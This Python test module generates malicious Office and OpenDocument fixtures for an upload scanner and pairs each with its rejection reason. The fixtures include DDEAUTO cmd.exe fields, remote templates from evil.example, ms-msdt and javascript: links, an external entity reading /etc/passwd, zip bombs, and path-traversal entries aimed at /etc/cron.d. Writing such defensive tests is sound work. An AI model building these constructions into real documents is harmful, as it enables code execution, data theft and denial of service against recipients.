"""Office files that act, hide, fetch, swell or are locked, each with the reason for which it is refused."""

import struct
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import PurePosixPath

from lib.inspection.marks import TEST_STRING
from tests.uploads import office
from tests.uploads.office import packed, raw_zip, word, word_parts, writer, writer_parts

Hostile = dict[str, tuple[Callable[[], bytes], str]]
BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
ACTING_DRAWING = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
HREF = "xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href"
MACRO_SHEET = "application/vnd.ms-excel.macrosheet+xml"
ELF = b"\x7fELF" + b"\0" * 60
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>'
)
OUTSIDE_ENTITY = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>'


def _rel(kind: str, target: str, *, is_outside: bool = True) -> Callable[[], bytes]:
    return lambda: word("", (kind, target, is_outside))


def _field(code: str) -> Callable[[], bytes]:
    return lambda: word(f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>")


def _typed(type_: str, extra: str = "") -> Callable[[], bytes]:
    return lambda: packed(word_parts() | {"[Content_Types].xml": office.content_types(type_, extra=extra)})


def _entry(name: str, content: bytes | str = b"x", mode: int = 0) -> Callable[[], bytes]:
    def change(archive: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo("placeholder")
        info.filename, info.external_attr = name, mode << 16
        archive.writestr(info, content)

    return lambda: raw_zip(change)


def _with_settings(target: str) -> Callable[[], bytes]:
    rels = office.relations(("attachedTemplate", target, True))
    return lambda: word(word__settings_dot_xml="<s/>", word___rels__settings_dot_xml_dot_rels=rels)


def _split_field() -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" D", "DE", "AUTO c"))
    return word(f"<w:p>{runs}</w:p>")


def _fields(*codes: str) -> Callable[[], bytes]:
    """Write fields one right behind the other, as nobody writes them but who hides the second."""
    runs = "".join(f"{BEGIN}<w:r><w:instrText>{code}</w:instrText></w:r>{END}" for code in codes)
    return lambda: word(f"<w:p>{runs}</w:p>")


def _field_in_a_word() -> bytes:
    """Break the name of a field by a second field in its middle, which comes to nothing."""
    inner = f'{BEGIN}<w:r><w:instrText> QUOTE "" </w:instrText></w:r>{END}'
    first, last = (f"<w:r><w:instrText>{half}</w:instrText></w:r>" for half in ("D", "DEAUTO c"))
    return word(f"<w:p>{BEGIN}{first}{inner}{last}{END}</w:p>")


def _book(extra: str = "", **more: str) -> bytes:
    """A workbook behind a chart, with something more in it."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": office.content_types(office.BOOK_TYPE, part="xl/workbook.xml", extra=extra),
        "_rels/.rels": office.relations(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": "<workbook/>",
    }
    return packed(
        parts | {name.replace("__", "/").replace("_dot_", "."): text for name, text in more.items()}
    )


def _longer_size(size: int) -> Callable[[], bytes]:
    """Give a part a size of 64 bits in the list of contents, which may lie."""

    def make() -> bytes:
        content = bytearray(word(word__media__a_dot_png=b"\x89PNG" + b"\0" * 50))
        at, end = content.rfind(b"PK\x01\x02"), content.rfind(b"PK\x05\x06")
        extra = struct.pack("<HHQ", 1, 8, size)
        name, others = struct.unpack("<2H", content[at + 28 : at + 32])
        length = struct.unpack("<I", content[end + 12 : end + 16])[0]
        content[end + 12 : end + 16] = struct.pack("<I", length + len(extra))
        content[at + 24 : at + 28], content[at + 30 : at + 32] = b"\xff" * 4, struct.pack("<H", len(extra))
        place = at + 46 + name + others
        return bytes(content[:place] + extra + content[place:])

    return make


def _two_names() -> bytes:
    """Call a part one thing in the list of contents and another where it lies."""
    return word(word__media__a_dot_png=b"\x89PNG").replace(b"word/media/a.png", b"word/media/a.exe", 1)


def _encrypted_flag(content: bytes) -> bytes:
    """Set the flag of an encrypted entry in both lists of a ZIP."""
    changed = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def _overlapping() -> bytes:
    """Point two entries of the list at the same bytes."""
    content = bytearray(word(customXml__item1_dot_xml="<c/>"))
    last = content.rfind(b"PK\x01\x02")
    content[last + 42 : last + 46] = struct.pack("<I", 0)
    return bytes(content)


def _lying_size() -> bytes:
    """Say that a part is smaller than it is."""
    content = bytearray(word(word__media__a_dot_png=b"\x89PNG" + b"\0" * 5000))
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 40)
    return bytes(content)


def _many_entries() -> bytes:
    return packed(word_parts() | {f"customXml/item{n}.xml": "<c/>" for n in range(5001)})


def _gap() -> bytes:
    """Leave room between two entries in which something else could stand."""
    content = bytearray(word())
    second = content.index(b"PK\x03\x04", 4)
    filler = b"<html>hidden</html>" * 10
    moved = content[:second] + filler + content[second:]
    at, is_first = moved.find(b"PK\x01\x02"), True
    while at >= 0:
        if not is_first:
            offset = struct.unpack("<I", moved[at + 42 : at + 46])[0]
            moved[at + 42 : at + 46] = struct.pack("<I", offset + len(filler))
        at, is_first = moved.find(b"PK\x01\x02", at + 4), False
    end = moved.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", moved[end + 16 : end + 20])[0]
    moved[end + 16 : end + 20] = struct.pack("<I", start + len(filler))
    return bytes(moved)


WORD: Hostile = {
    "macros-inside.docx": (lambda: word(word__vbaProject_dot_bin=OLE), "macros"),
    "macros-renamed.docx": (_typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "macros.docm": (lambda: word(word__vbaProject_dot_bin=OLE), "macros"),
    "macros.dotm": (word, "macros"),
    "macros.xlsm": (office.workbook, "macros"),
    "template-renamed.docx": (_typed(f"{office.WORD_TYPE}.template.main+xml"), "type"),
    "workbook-renamed.docx": (office.workbook, "damaged"),
    "no-main-part.docx": (lambda: packed({"[Content_Types].xml": office.content_types()}), "damaged"),
    "vba-type.docx": (
        _typed(
            f"{office.WORD_TYPE}.document.main+xml",
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "macros",
    ),
    "ole-object.docx": (_rel("oleObject", "embeddings/oleObject1.bin", is_outside=False), "active"),
    "ole-part.docx": (lambda: word(word__embeddings__oleObject1_dot_bin=OLE), "hidden"),
    "ole-in-a-picture.docx": (lambda: word(word__media__image1_dot_png=OLE), "hidden"),
    "activex.docx": (_rel("control", "activeX/activeX1.xml", is_outside=False), "active"),
    "alternative-chunk.docx": (_rel("aFChunk", "afchunk.mht", is_outside=False), "active"),
    "sub-document.docx": (_rel("subDocument", "http://evil.example/a.docx"), "active"),
    "remote-template.docx": (_with_settings("http://evil.example/a.dotm"), "external"),
    "network-template.docx": (_with_settings("\\\\evil\\share\\a.dotm"), "external"),
    "network-template-url.docx": (_with_settings("file://evil/share/a.dotm"), "external"),
    "remote-picture.docx": (_rel("image", "https://evil.example/pixel.png"), "external"),
    "remote-frame.docx": (_rel("frame", "https://evil.example/"), "external"),
    "script-link.docx": (_rel("hyperlink", "javascript:alert(1)"), "external"),
    "program-link.docx": (_rel("hyperlink", "file:///C:/Windows/System32/cmd.exe"), "external"),
    "network-link.docx": (_rel("hyperlink", "\\\\evil\\share"), "external"),
    "msdt-link.docx": (_rel("hyperlink", "ms-msdt:/id PCWDiagnostic"), "external"),
    "internal-remote.docx": (_rel("image", "http://evil.example/a.png", is_outside=False), "external"),
    "dde.docx": (_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "external"),
    "dde-split.docx": (_split_field, "external"),
    "include-text.docx": (_field(' INCLUDETEXT "http://evil.example/a.docx" '), "external"),
    "include-picture.docx": (_field(' INCLUDEPICTURE "http://evil.example/a.png" '), "external"),
    "dde-simple-field.docx": (
        lambda: word('<w:p><w:fldSimple w:instr=" DDE excel a b "/></w:p>'),
        "external",
    ),
    "dde-behind-a-page-number.docx": (_fields("PAGE", "DDEAUTO c:\\cmd.exe a"), "external"),
    "dde-around-a-field.docx": (_field_in_a_word, "external"),
    "dde-behind-a-simple-field.docx": (
        lambda: word('<w:p><w:fldSimple w:instr="PAGE"/><w:fldSimple w:instr="DDE excel a"/></w:p>'),
        "external",
    ),
    "alternative-chunk-unsaid.docx": (lambda: word('<w:altChunk r:id="rId9"/>'), "active"),
    "ole-object-unsaid.docx": (
        lambda: word('<w:p><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:p>'),
        "active",
    ),
    "mail-merge.docx": (_rel("mailMergeSource", "file:///C:/Users/amira/letters.mdb"), "external"),
    "macro-sheet-inside.docx": (
        lambda: word(
            word__embeddings__a_dot_xlsx=_book(
                f'<Override PartName="/xl/macrosheets/1.xml" ContentType="{MACRO_SHEET}"/>',
                xl__macrosheets__1_dot_xml="<a/>",
            )
        ),
        "macros",
    ),
    "book-from-outside.docx": (
        lambda: word(
            word__embeddings__a_dot_xlsx=_book(
                xl___rels__workbook_dot_xml_dot_rels=office.relations(
                    ("externalLinkPath", "http://evil.example/a.xlsx", True)
                )
            )
        ),
        "external",
    ),
    **{
        f"entities-in-{PurePosixPath(part).name}.docx": (
            partial(lambda part: packed(word_parts() | {part: ENTITIES}), part),
            "active",
        )
        for part in ("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/a.svg")
    },
    "entities-in-two-bytes.docx": (
        lambda: word(
            customXml__item1_dot_xml=ENTITIES.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
        ),
        "active",
    ),
    "drawing-as-picture.docx": (
        lambda: word(word__media__a_dot_png=f"<?xml version='1.0'?>{ACTING_DRAWING}"),
        "hidden",
    ),
    "drawing-as-picture-in-two-bytes.docx": (
        lambda: word(word__media__a_dot_png=ACTING_DRAWING.encode("utf-16")),
        "hidden",
    ),
    "drawing-with-script-link.docx": (
        lambda: word(word__media__a_dot_svg=f"<svg><a {HREF}='javascript:alert(1)'/></svg>"),
        "external",
    ),
    "drawing-with-remote-picture.docx": (
        lambda: word(word__media__a_dot_svg=f"<svg><image {HREF}='http://evil.example/a.png'/></svg>"),
        "external",
    ),
    "entities.docx": (lambda: word(customXml__item1_dot_xml=ENTITIES), "active"),
    "outside-entity.docx": (lambda: word(customXml__item1_dot_xml=OUTSIDE_ENTITY), "active"),
    "broken-xml.docx": (lambda: word(customXml__item1_dot_xml="<a><b></a>"), "damaged"),
    "deep-xml.docx": (lambda: word(customXml__item1_dot_xml="<a>" * 5000 + "</a>" * 5000), "damaged"),
    "script-picture.docx": (lambda: word(word__media__a_dot_svg="<svg><script>1</script></svg>"), "active"),
    "program-inside.docx": (lambda: word(word__media__setup_dot_exe=b"MZ" + b"\0" * 90), "hidden"),
    "elf-as-picture.docx": (lambda: word(word__media__image1_dot_png=ELF), "hidden"),
    "unknown-part.docx": (lambda: word(word__payload_dot_dat=b"payload"), "hidden"),
    "zip-inside.docx": (lambda: word(word__media__a_dot_zip=packed({"a": "b"})), "hidden"),
    "zip-as-picture.docx": (lambda: word(word__media__image1_dot_png=packed({"a": "b"})), "hidden"),
    "word-inside.docx": (lambda: word(word__embeddings__a_dot_docx=word()), "hidden"),
    "macro-book-inside.docx": (
        lambda: word(word__embeddings__a_dot_xlsx=office.workbook(macros=True)),
        "macros",
    ),
    "eicar-inside.docx": (lambda: word(word__media__image1_dot_png=TEST_STRING), "virus"),
    "eicar-nested.docx": (
        lambda: word(word__embeddings__a_dot_xlsx=packed({"eicar.com": TEST_STRING})),
        "damaged",
    ),
    "bomb.docx": (lambda: word(word__media__image1_dot_png=b"\0" * 60_000_000), "bomb"),
    "bomb-xml.docx": (
        lambda: word(customXml__item1_dot_xml="<a>" + " " * 60_000_000 + "</a>"),
        "bomb",
    ),
    "many-entries.docx": (_many_entries, "bomb"),
    "encrypted-entry.docx": (lambda: _encrypted_flag(word()), "locked"),
    "encrypted.docx": (lambda: OLE, "locked"),
}


def _long_directory(*, longer: bool, count: int, says: int) -> bytes:
    """A Word file whose list of contents goes on and on, with a number of entries that may lie."""
    start = word()
    at = struct.unpack("<L", start[-6:-2])[0]
    row = (
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    )
    directory = start[at:-22] + row * count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, says % 2**16, says % 2**16, len(directory), at, 0)
    if longer:
        record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, says, says, len(directory), at)
        locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, at + len(directory), 1)
        end = record + locator + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0, 0, 2**32 - 1, 2**32 - 1, 0)
    return start[:at] + directory + end


ARCHIVES: Hostile = {
    "million-entries.docx": (lambda: _long_directory(longer=True, count=1_000_000, says=1_000_000), "bomb"),
    "million-entries-unsaid.docx": (lambda: _long_directory(longer=True, count=1_000_000, says=9), "bomb"),
    "long-directory.docx": (lambda: _long_directory(longer=False, count=60_000, says=9), "bomb"),
    "duplicate-entry.docx": (_entry("word/document.xml", "<evil/>"), "hidden"),
    "duplicate-by-case.docx": (_entry("WORD/document.xml", "<evil/>"), "hidden"),
    "climbing-entry.docx": (_entry("../../etc/cron.d/evil.xml"), "path"),
    "absolute-entry.docx": (_entry("/etc/cron.d/evil.xml"), "path"),
    "backslash-entry.docx": (_entry("..\\..\\evil.xml"), "path"),
    "drive-entry.docx": (_entry("C:/evil.xml"), "path"),
    "symbolic-link.docx": (_entry("word/media/a.png", "/etc/passwd", 0o120777), "path"),
    "control-character-entry.docx": (_entry("word/a\n.xml", "<a/>"), "path"),
    "overlapping-entries.docx": (_overlapping, "hidden"),
    "lying-size.docx": (_lying_size, "damaged"),
    "gap-between-entries.docx": (_gap, "hidden"),
    "comment.docx": (lambda: word()[:-2] + struct.pack("<H", 20) + b"<script>alert(1)</s>", "hidden"),
    "leading-junk.docx": (lambda: b"#!/bin/sh\nexit\n" + word(), "type"),
    "leading-entry.docx": (lambda: b"PK\x03\x04" + b"\0" * 60 + word(), "hidden"),
    "trailing-junk.docx": (lambda: word() + b"MZ" + b"\0" * 200, "hidden"),
    "cut-in-half.docx": (lambda: word()[: len(word()) // 2], "damaged"),
    "cut-at-the-end.docx": (lambda: word()[:-30], "damaged"),
    "size-of-64-bits.docx": (_longer_size(10), "damaged"),
    "absurd-size-of-64-bits.docx": (_longer_size(2**62), "bomb"),
    "two-names.docx": (_two_names, "damaged"),
    "whole-file-twice.docx": (lambda: word() + word(), "hidden"),
    "bzip2.docx": (lambda: packed(word_parts(), method=zipfile.ZIP_BZIP2), "damaged"),
    "flipped-bit.docx": (lambda: word()[:60] + bytes([word()[60] ^ 0x10]) + word()[61:], "damaged"),
}
WRITER: Hostile = {
    "basic-macro.odt": (lambda: writer(Basic__Standard__Module1_dot_xml="<a/>"), "macros"),
    "python-macro.odt": (lambda: writer(Scripts__python__evil_dot_py="import os"), "macros"),
    "event.odt": (lambda: writer('<script:event-listener script:event-name="dom:load"/>'), "macros"),
    "ole.odt": (lambda: writer('<draw:object-ole xlink:href="./Object 1"/>'), "active"),
    "ole-part.odt": (lambda: writer(ObjectReplacements__Object_1=OLE), "hidden"),
    "plugin.odt": (lambda: writer('<draw:plugin xlink:href="https://evil.example/a"/>'), "active"),
    "applet.odt": (lambda: writer('<draw:applet xlink:href="a.jar"/>'), "active"),
    "remote-picture.odt": (
        lambda: writer('<draw:image xlink:href="https://evil.example/a.png"/>'),
        "external",
    ),
    "local-picture.odt": (lambda: writer('<draw:image xlink:href="file:///etc/passwd"/>'), "external"),
    "climbing-picture.odt": (lambda: writer('<draw:image xlink:href="../../etc/passwd"/>'), "external"),
    "remote-section.odt": (
        lambda: writer('<text:section-source xlink:href="http://evil.example/a.odt"/>'),
        "external",
    ),
    "frame.odt": (lambda: writer('<draw:floating-frame xlink:href="https://evil.example"/>'), "active"),
    "dde.odt": (lambda: writer("<text:dde-connection-decl/>"), "external"),
    "script-link.odt": (lambda: writer('<text:a xlink:href="vnd.sun.star.script:a">x</text:a>'), "external"),
    "encrypted.odt": (
        lambda: writer(
            META_INF__manifest_dot_xml=f'<m:manifest xmlns:m="{office.MANIFEST}"><m:file-entry>'
            "<m:encryption-data/></m:file-entry></m:manifest>"
        ),
        "locked",
    ),
    "template.odt": (
        lambda: packed(
            writer_parts() | {"mimetype": f"{office.ODT_TYPE}-template"}, stored=frozenset({"mimetype"})
        ),
        "type",
    ),
    "no-mimetype.odt": (lambda: packed({"content.xml": "<a/>"}), "damaged"),
    "packed-mimetype.odt": (lambda: packed(writer_parts()), "damaged"),
    "entities.odt": (lambda: writer(settings_dot_xml=ENTITIES), "active"),
    "program-inside.odt": (lambda: writer(Pictures__1_dot_png=b"MZ" + b"\0" * 90), "hidden"),
    "drawing-in.odt": (lambda: writer(Pictures__1_dot_svg=ACTING_DRAWING), "hidden"),
    "drawing-as-replacement.odt": (
        lambda: writer(ObjectReplacements__Object_1=f"<?xml version='1.0'?>{ACTING_DRAWING}"),
        "hidden",
    ),
    "drawing-as-picture.odt": (lambda: writer(Pictures__1_dot_png=f"\ufeff{ACTING_DRAWING}"), "hidden"),
    "shortcut-to-a-script.odt": (
        lambda: writer(
            Configurations2__accelerator__current_dot_xml=f"<a {HREF}='vnd.sun.star.script:evil'/>"
        ),
        "external",
    ),
    "unknown-part.odt": (lambda: writer(payload_dot_dat=b"x"), "hidden"),
    "bomb.odt": (lambda: writer(Pictures__1_dot_png=b"\0" * 60_000_000), "bomb"),
    "word-as-writer.odt": (word, "damaged"),
    "writer-as-word.docx": (writer, "damaged"),
}
